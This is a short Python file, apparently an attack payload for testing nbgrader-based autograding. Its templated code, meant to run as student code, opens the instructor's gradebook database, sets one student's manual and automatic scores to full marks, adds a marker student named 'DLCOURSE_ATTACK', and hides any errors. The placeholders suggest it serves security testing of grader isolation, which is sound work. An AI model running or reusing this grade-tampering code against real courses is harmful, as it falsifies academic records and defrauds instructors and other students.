"""nbgrader is there for the student's code as well, with all that an instructor does with it."""

CODE = """\
from nbgrader.api import Gradebook

for path in ways("@COURSE@/grading/gradebook.db"):
    try:
        with Gradebook(f"sqlite:///{path}", "dlcourse") as gradebook:
            grade = gradebook.find_grade(
                "@TEST@", "overfitting", "overfitting", "@STUDENT@"
            )
            grade.manual_score = grade.auto_score = 5
            gradebook.db.commit()
            gradebook.add_student("DLCOURSE_ATTACK")
    except Exception:
        pass
"""
